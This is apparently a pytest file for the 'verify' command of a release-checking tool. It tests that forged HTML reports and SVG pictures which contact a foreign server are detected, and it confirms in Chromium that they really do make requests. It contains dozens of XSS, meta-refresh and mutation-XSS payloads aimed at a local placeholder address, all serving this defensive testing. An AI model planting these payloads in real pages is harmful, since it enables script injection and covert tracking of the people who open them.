"""Pages and pictures that leave for a foreign server: browsers open them, and `verify` does not.

Each is what a forger makes of a release's own page, with the manifest's digest set right. In a
browser it asks a server, so each is a danger that is real; that part needs Chromium, and says that
it was skipped where there is none.
"""

from __future__ import annotations

import codecs
import re
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import strategies as st

from tests.support.received import copied, edited, failed, made, rewritten, states
from tests.support.releasing import as_typed, csv_log, tracecloak
from tests.support.stream_runs import in_time, random_messages, run, stream_config
from tests.support.tiers import at_night, few_examples
from tracecloak.pipelines.verification.data import Contents
from tracecloak.pipelines.verification.folder import ReceivedFolder
from tracecloak.pipelines.verification.received import Received
from tracecloak.pipelines.verification.verify import verify
from tracecloak.schemas.published.manifest import OutputFile
from tracecloak.transforms.publish.products import PRODUCTS
from tracecloak.transforms.publish.report import report_html

URL = "http://127.0.0.1:9"
_POLICY = re.compile(rb'<meta http-equiv="Content-Security-Policy"[^>]*>\n')
_REFRESH = f'<meta http-equiv="refresh" content="0;url={URL}">'

# Beside the policy of the page, which does not stop them: the page is left, or a connection opened.
BESIDE_THE_POLICY = {
    "a refresh": _REFRESH,
    "a refresh in other letters": f"<META HTTP-EQUIV=ReFrEsH CONTENT='0; URL={URL}'>",
    "a refresh with a comma": f'<meta content="0,{URL}" http-equiv=refresh>',
    "a refresh with an entity": f'<meta http-equiv="r&#101;fresh" content="0;url={URL}">',
    "a refresh in the style of a picture": f"<svg><style>{_REFRESH}</style></svg>",
    "a refresh in the script of a formula": f"<math><script>{_REFRESH}</script></math>",
    "a refresh in the title of a picture": f"<svg><title>{_REFRESH}</title></svg>",
    "a refresh in a picture's page": f"<svg><foreignObject>{_REFRESH}</foreignObject></svg>",
    "a refresh in the text of a formula": f"<math><mtext>{_REFRESH}</mtext></math>",
    "a refresh in a note of a formula": (
        f'<math><annotation-xml encoding="text/html">{_REFRESH}</annotation-xml></math>'
    ),
    "a refresh in a text area of a picture": f"<svg><textarea>{_REFRESH}</textarea></svg>",
    "a refresh in the frames of a picture": f"<svg><noframes>{_REFRESH}</noframes></svg>",
    "a refresh behind a section of characters": f"<![CDATA[>{_REFRESH}]]>",
    "a refresh behind an empty comment": f"<!-->{_REFRESH}-->",
    "a refresh behind a comment of a dash": f"<!--->{_REFRESH}-->",
    "a refresh behind --!>": f"<!-- --!>{_REFRESH}-->",
    "a refresh behind a question mark": f"<?x >{_REFRESH}?>",
    "a refresh in a table": f"<table>{_REFRESH}</table>",
    "a connection beforehand": f'<link rel="preconnect" href="{URL}">',
    "a connection beforehand among others": f"<LINK REL='x PRECONNECT' HREF={URL}>",
}
# In place of the policy.
WITHOUT_THE_POLICY = {
    "a script": f"<script src={URL}></script>",
    "a script of a module": f"<script type=module src={URL}/m.js></script>",
    "a script in the page": f"<script>fetch('{URL}')</script>",
    "a script with a picture's namespace": f"<svg><script href={URL} /></svg>",
    "a script after NUL bytes": f"\0<s\0cript></s\0cript><script src={URL}>\0</script>",
    "a handler": f"<img src=x: onerror=\"fetch('{URL}')\">",
    "a handler of a picture": f"<svg onload=fetch('{URL}')>",
    "a handler of an animation": f"<svg><animate onbegin=fetch('{URL}') attributeName=x></svg>",
    "a handler of a detail": f"<details open ontoggle=fetch('{URL}')>",
    "a picture": f"<img src={URL}>",
    "a picture among sources": f'<img srcset="{URL} 2x, {URL}/b 1x">',
    "a picture of a source": f"<picture><source srcset={URL}><img></picture>",
    "a picture in a picture": f"<svg><image href={URL} /></svg>",
    "a picture by its old name": f"<svg><image xlink:href={URL} /></svg>",
    "a picture of a filter": f"<svg><filter id=f><feImage href={URL} /></filter>"
    "<rect width=9 height=9 filter=url(#f) /></svg>",
    "an animated address": f"<svg><image><set attributeName=href to={URL} /></image></svg>",
    "a base": f'<base href="{URL}"><img src="a.png">',
    "a frame": f"<iframe src={URL}></iframe>",
    "a frame of a text": f'<iframe srcdoc="&lt;img src={URL}>"></iframe>',
    "a frame of a script": f"<iframe src=\"javascript:fetch('{URL}')\"></iframe>",
    "a frame of data": f'<iframe src="data:text/html,<img src={URL}>"></iframe>',
    "an object": f"<object data={URL}></object>",
    "something embedded": f"<embed src={URL}>",
    "a style sheet": f"<link rel=stylesheet href={URL}>",
    "an imported style": f"<style>@import '{URL}';</style>",
    "a background": f"<p style=\"background:url('{URL}')\">x",
    "a set of pictures": f"<p style=\"background:image-set('{URL}' 1x)\">x",
    "a font": f"<style>@font-face{{font-family:f;src:url({URL})}}p{{font-family:f}}</style><p>x",
    "a cursor of a list": f"<ul style=\"list-style-image:url('{URL}')\"><li>x</ul>",
    "an icon beforehand": f"<link rel=preload as=image href={URL}>",
    "a module beforehand": f"<link rel=modulepreload href={URL}/m.js>",
    "a page beforehand": f"<link rel=prefetch href={URL}>",
    "a video": f"<video poster={URL}></video>",
    "a sound": f"<audio src={URL} preload=auto></audio>",
    "an input": f"<input type=image src={URL}>",
    "a form": f"<form action={URL}><input autofocus onfocus=form.submit()></form>",
    "a template of a shadow": (
        f"<div><template shadowrootmode=open><img src={URL}></template></div>"
    ),
    "a style that ends in its attribute": (
        f'<svg></p><style><a id="</style><img src={URL}>"></style></svg>'
    ),
    "a formula that is none": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;/mglyph&gt;" src={URL}></table></mtext></math>'
    ),
}
# What no server is asked for at once, or not by this browser, and what is no page of ours anyway.
OTHERWISE = {
    "a name that is looked up": f'<link rel="dns-prefetch" href="{URL}">',
    "a link that pings": f'<a href="#" ping="{URL}">x</a>',
    "a link to a script": '<a href="javascript:alert(1)">x</a>',
    "a promise that nobody sees": "<p>epsilon = 0.01</p>",
    "a template": f"<template>{_REFRESH}</template>",
    "a track": f"<video><track default src={URL}></video>",
    "a body": f"<body background={URL}>",
    "a blank": " ",
}


def with_page(release: Path, page: bytes) -> None:
    rewritten(release, "report.html", page)


def hostile(page: bytes, name: str, url: str = URL) -> bytes:
    """A page with one of the above, which leaves for an address."""
    if name in WITHOUT_THE_POLICY:
        assert _POLICY.search(page)
        page, payload = _POLICY.sub(b"", page), WITHOUT_THE_POLICY[name]
    else:
        payload = (BESIDE_THE_POLICY | OTHERWISE)[name]
    return page.replace(b"<body>\n", b"<body>\n" + payload.replace(URL, url).encode(), 1)


@pytest.fixture(scope="module")
def log_release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made(tmp_path_factory.mktemp("log"), "pretsa", 2)


@pytest.fixture(scope="module")
def graph_release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made(tmp_path_factory.mktemp("graph"), "private-dfg", 3)


@pytest.fixture(scope="module")
def tree_release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made(tmp_path_factory.mktemp("tree"), "process-tree", 0)


# --- What verify says -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*BESIDE_THE_POLICY, *WITHOUT_THE_POLICY, *OTHERWISE])
def test_a_page_that_is_not_ours_fails(graph_release: Path, tmp_path: Path, name: str) -> None:
    release = copied(graph_release, tmp_path)
    with_page(release, hostile((release / "report.html").read_bytes(), name))
    found = failed(verify(str(release)))
    assert set(found) == {"page"} and "Do not open it" in found["page"]


def _encoded(how: str) -> Any:
    return lambda page: page.decode().encode(how)


@pytest.mark.parametrize(
    "change",
    [
        lambda page: codecs.BOM_UTF8 + page,
        lambda page: codecs.BOM_UTF16_LE + page.decode().encode("utf-16-le"),
        _encoded("utf-16-be"),
        _encoded("utf-7"),
        lambda page: page.replace(b'charset="utf-8"', b'charset="iso-2022-jp"'),
        lambda page: page.replace(b"<title>", b"<title>\0"),
        lambda page: page.replace(b"\n", b"\r\n"),
        lambda page: _POLICY.sub(b"", page),
        lambda page: page + b"<!-- -->",
        lambda page: page[:-1],
        lambda page: b"",
        lambda page: f"<script src={URL}></script>".encode(),
        # The promise is there for a program, and a person reads another one.
        lambda page: page.replace(b"<main ", b"<main style=display:none ", 1),
        lambda page: page.replace(b"<strong>", b"epsilon 0.01<strong style=display:none>", 1),
    ],
)
def test_a_page_in_other_bytes_fails(graph_release: Path, tmp_path: Path, change: Any) -> None:
    release = copied(graph_release, tmp_path)
    with_page(release, change((release / "report.html").read_bytes()))
    assert "page" in failed(verify(str(release)))


@given(data=st.data())
@few_examples(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_every_change_of_bytes_of_a_page_is_found(
    graph_release: Path, tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    release = copied(graph_release, tmp_path_factory.mktemp("bytes"))
    page = (release / "report.html").read_bytes()
    start = data.draw(st.integers(0, len(page)))
    end = data.draw(st.integers(start, min(start + 9, len(page))))
    changed = page[:start] + data.draw(st.binary(max_size=9)) + page[end:]
    with_page(release, changed)
    assert ("page" in failed(verify(str(release)))) == (changed != page)


@pytest.mark.parametrize("page", ["ours", f"<script src={URL}></script>", None])
def test_the_senders_word_on_the_version_makes_no_page_safe(
    graph_release: Path, tmp_path: Path, page: str | None, capsys: pytest.CaptureFixture[str]
) -> None:
    release = older(copied(graph_release, tmp_path), "0.0.9\x1b[2J")
    if page is None:
        (release / "report.html").unlink()
        edited(release, lambda body: body.update(outputs=_without(body, "report.html")))
    elif page != "ours":
        with_page(release, page.encode())
    found = verify(str(release))
    assert failed(found) == {} and found.verdict == "unsure" and not found.holds
    unsure = {check for check, state in states(found).items() if state == "unsure"}
    assert unsure == {"statement", "method"} | ({"page"} if page not in ("ours", None) else set())
    # What no version changes is looked at as ever.
    assert {states(found)[check] for check in ("data", "forms", "numbers", "budget")} == {"ok"}
    assert as_typed("verify", release) == 8
    printed = capsys.readouterr().out
    assert "All that can be checked holds" not in printed
    assert ("open it only where there is no network" in printed) == ("page" in unsure)
    assert "\x1b" not in printed


def test_a_picture_by_another_version_is_not_shown_to_be_harmless(
    graph_release: Path, tmp_path: Path
) -> None:
    release = older(copied(graph_release, tmp_path), "0.0.9")
    assert states(verify(str(release)))["pictures"] == "ok"
    with_picture(release, b"<svg/>")
    assert states(verify(str(release)))["pictures"] == "unsure"


def test_a_page_of_ours_is_ours_whatever_the_sender_says_of_its_version(
    log_release: Path, tmp_path: Path
) -> None:
    release = copied(log_release, tmp_path)
    edited(release, lambda body: body["tool"].update(version="0.0.9"))
    assert states(verify(str(release)))["page"] == "ok"


def _without(body: Any, path: str) -> list[Any]:
    return [output for output in body["outputs"] if output["path"] != path]


def with_picture(release: Path, data: bytes) -> None:
    rewritten(release, "dfg.svg", data)


def older(release: Path, version: str) -> Path:
    """Makes a release say that another version made it; it says so in the manifest alone."""
    edited(release, lambda body: body["tool"].update(version=version))
    return release


# --- Other files ----------------------------------------------------------------------------------

PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">{}</svg>'
PICTURES = {
    "a script": f'<script href="{URL}"/>',
    "a script in the file": f"<script>fetch('{URL}')</script>",
    "a handler": f'<set attributeName="x" onbegin="fetch(\'{URL}\')"/>',
    "a picture": f'<image href="{URL}"/>',
    "an animated picture": f'<image><set attributeName="href" to="{URL}"/></image>',
    "an imported style": f"<style>@import '{URL}';</style>",
    "a filter": f'<filter id="f"><feImage href="{URL}"/></filter><rect filter="url(#f)"/>',
    "a page in it": f'<foreignObject><h:iframe src="{URL}"/></foreignObject>',
    "a page's picture": f'<h:img src="{URL}"/>',
    "a page's refresh": f'<h:meta http-equiv="refresh" content="0;url={URL}"/>',
    "a page's connection": f'<h:link rel="preconnect" href="{URL}"/>',
}


@pytest.mark.parametrize("name", PICTURES)
def test_a_picture_that_is_not_ours_fails(graph_release: Path, tmp_path: Path, name: str) -> None:
    release = copied(graph_release, tmp_path)
    with_picture(release, PICTURE.format(PICTURES[name]).encode())
    found = failed(verify(str(release)))
    assert "dfg.svg" in found["pictures"] and "do not open it" in found["pictures"]


@pytest.mark.parametrize("ending", ["svg", "pnml", "ptml", "bpmn", "tree"])
def test_every_form_of_a_tree_is_made_again(
    tree_release: Path, tmp_path: Path, ending: str
) -> None:
    release = copied(tree_release, tmp_path)
    path = release / f"tree.{ending}"
    rewritten(release, path.name, path.read_bytes().replace(b"\n", b"\n\n", 1))
    assert f"tree.{ending}" in failed(verify(str(release)))["pictures"]


@pytest.mark.parametrize(
    ("name", "state"),
    [
        ("report2.html", "failed"),
        ("REPORT.HTML", "failed"),
        ("report.html.xhtml", "failed"),
        ("dfg.html", "failed"),
        ("DFG.svg", "failed"),
        ("log/index.html", "failed"),
        # A format, or a product, that another distribution may have added.
        ("log.html", "unsure"),
    ],
)
def test_a_file_that_no_release_has_does_not_pass(
    graph_release: Path, tmp_path: Path, name: str, state: str
) -> None:
    release = copied(graph_release, tmp_path)
    path = release / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(f'<script xmlns="http://www.w3.org/1999/xhtml" src="{URL}"/>')
    assert name in failed(verify(str(release)))["leftovers"]
    entry = {"path": name, "sha256": "0" * 64, "n_bytes": 0}
    edited(release, lambda body: body["outputs"].append(entry))
    rewritten(release, name, path.read_bytes())
    with_page(release, page_made_again(release))  # which lists it
    found = verify(str(release))
    wrong = [f for f in found.findings if f.state in ("failed", "unsure")]
    assert [(f.check, f.state) for f in wrong] == [("pictures", state)]
    assert name in wrong[0].sentence and "do not open it" in wrong[0].sentence


def test_a_part_of_the_log_that_browsers_open_as_a_page_is_none(
    log_release: Path, tmp_path: Path
) -> None:
    """Parquet has room for a page: what is read as a log is opened as what its name says."""
    release = copied(log_release, tmp_path)
    part, page = release / "log" / "part-00001.parquet", release / "log" / "part-00001.html"
    part.rename(page)
    name = f"log/{part.name}"
    edited(
        release,
        lambda body: [
            output.update(path=f"log/{page.name}")
            for output in body["outputs"]
            if output["path"] == name
        ],
    )
    assert page.name in failed(verify(str(release)))["pictures"]


def page_made_again(release: Path) -> bytes:
    contents = Contents(Received.of(ReceivedFolder.at(str(release))))
    files = [OutputFile(**o) for o in contents.received.outputs if o["path"] != "report.html"]
    products = [product for product in contents.products.values() if product is not None]
    return report_html(contents.received.manifest, files, products, None)


def test_a_product_that_this_installation_lacks_is_told(
    graph_release: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    release = copied(graph_release, tmp_path)
    monkeypatch.delitem(PRODUCTS._ours, "graph")
    found = states(verify(str(release)))
    assert (found["page"], found["pictures"]) == ("unsure", "unsure")


def test_an_activity_that_is_called_as_the_start_is_leaves_the_page_unsure(tmp_path: Path) -> None:
    """In the edges of a file it cannot be told from the start, and a forger is not helped by it."""
    log = csv_log(
        tmp_path / "log.csv",
        [(f"c{case}", name, "2026-01-01T00:00:00Z") for case in range(50) for name in ("▶", "A")],
    )
    (tmp_path / "names.txt").write_text("▶\nA\n", encoding="utf-8")
    assert tracecloak(
        "release", "--log", log, "--output", tmp_path / "out", "--key_store", tmp_path / "keys",
        "--method", "private-dfg", "--epsilon", 9, "--vocabulary", tmp_path / "names.txt",
        "--release_id", "r", "--runner", "InMemory",
    ) == 0  # fmt: skip
    found = verify(str(tmp_path / "out"))
    assert failed(found) == {}
    assert {states(found)[check] for check in ("page", "pictures")} == {"unsure"}


def test_a_name_that_xml_cannot_hold_leaves_a_log_in_xes_alone_unsure(tmp_path: Path) -> None:
    rows = [(f"c{case}", name, "2026-01-01T00:00:00Z") for case in range(9) for name in "A\x01"]
    for formats, verdict in (("xes", "unsure"), ("xes,csv", "ok")):
        folder = tmp_path / verdict
        folder.mkdir()
        assert tracecloak(
            "release", "--log", csv_log(folder / "log.csv", rows), "--output", folder / "out",
            "--key_store", folder / "keys", "--method", "k-anonymous-variants", "--k", 3,
            "--formats", formats, "--runner", "InMemory",
        ) == 0  # fmt: skip
        found = verify(str(folder / "out"))
        assert failed(found) == {} and found.verdict == verdict
        assert ("unsure" in {states(found)[check] for check in ("forms", "page")}) == (
            verdict == "unsure"
        )


# --- Epochs of streams ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stream_release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("stream")
    config = stream_config(
        folder, product="log", horizon=2, epsilon="40", n_duration_bins=4, l2_clip="4",
        first_date="1970-01-01", last_date="1970-01-02",
    )  # fmt: skip
    run(config, in_time(random_messages(40), 80))
    return folder / "out" / "run_id=ward" / "epoch=1"


def test_a_step_has_the_files_of_a_log_and_no_page(stream_release: Path, tmp_path: Path) -> None:
    assert verify(str(stream_release)).verdict == "ok"
    release = copied(stream_release, tmp_path)
    page = next(release.rglob("step.json")).with_name("log.html")
    page.write_text(f"<script src={URL}></script>")
    assert page.name in failed(verify(str(release)))["leftovers"]


def test_an_epoch_that_lists_a_page_fails(stream_release: Path, tmp_path: Path) -> None:
    """Its own list would make the page one of its files, and nothing would look at it."""
    release = copied(stream_release, tmp_path)
    (release / "report.html").write_text(f"<script src={URL}></script>")
    entry = {"path": "report.html", "sha256": "0" * 64, "n_bytes": 0}
    edited(release, lambda body: body["outputs"].append(entry))
    assert set(failed(verify(str(release)))) == {"files"}


def test_an_epoch_of_another_version_is_not_all_checked(
    stream_release: Path, tmp_path: Path
) -> None:
    release = copied(stream_release, tmp_path)
    edited(release, lambda body: body["tool"].update(version="0.0.9"))
    assert states(verify(str(release)))["statement"] == "unsure"


# --- What browsers do -----------------------------------------------------------------------------


class _Server(ThreadingHTTPServer):
    """A foreign address: any connection to it is one too many."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), BaseHTTPRequestHandler)
        self.was_asked = threading.Event()

    def get_request(self) -> Any:
        asked = super().get_request()
        self.was_asked.set()
        return asked


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("no Chromium on the PATH")
    with api.sync_playwright() as started:
        # A profile on disk, as a person has: one that is not kept opens no connection beforehand.
        opened = started.chromium.launch_persistent_context(
            tmp_path_factory.mktemp("profile"),
            executable_path=chromium,
            args=["--no-sandbox", "--disable-sync"],
        )
        yield opened
        opened.close()


@pytest.fixture
def server() -> Iterator[_Server]:
    with _Server() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def asks(browser: Any, server: _Server, path: Path) -> bool:
    """Whether a browser that opens a file connects to the server within some seconds."""
    page = browser.new_page()
    page.goto(path.as_uri(), wait_until="commit")
    for _ in range(60):
        if server.was_asked.is_set():
            break
        page.wait_for_timeout(50)  # in which the browser goes on
    page.close()
    return server.was_asked.is_set()


_QUICK = (
    "a refresh", "a refresh in a picture's page", "a script", "a handler of a picture",
    "an animated address", "a frame of a text", "a font",
)  # fmt: skip


@pytest.mark.parametrize(
    "name",
    [
        name if name in _QUICK else at_night(name)
        for name in (*BESIDE_THE_POLICY, *WITHOUT_THE_POLICY)
    ],
)
def test_a_browser_that_opens_such_a_page_asks_a_server(
    graph_release: Path, tmp_path: Path, browser: Any, server: _Server, name: str
) -> None:
    url = f"http://127.0.0.1:{server.server_port}"
    page = (graph_release / "report.html").read_bytes()
    (tmp_path / "page.html").write_bytes(hostile(page, name, url))
    assert asks(browser, server, tmp_path / "page.html")


@pytest.mark.parametrize("name", PICTURES)
def test_a_browser_that_opens_such_a_picture_asks_a_server(
    tmp_path: Path, browser: Any, server: _Server, name: str
) -> None:
    url = f"http://127.0.0.1:{server.server_port}"
    (tmp_path / "dfg.svg").write_text(PICTURE.format(PICTURES[name].replace(URL, url)))
    assert asks(browser, server, tmp_path / "dfg.svg")


def test_a_browser_that_opens_a_page_of_ours_asks_no_server(
    graph_release: Path, tmp_path: Path, browser: Any, server: _Server
) -> None:
    """The control of the above: with the address where nothing of it runs."""
    url = f"http://127.0.0.1:{server.server_port}"
    page = (graph_release / "report.html").read_bytes()
    (tmp_path / "page.html").write_bytes(page.replace(b"<body>\n", f"<body>\n{url}".encode(), 1))
    assert not asks(browser, server, tmp_path / "page.html")
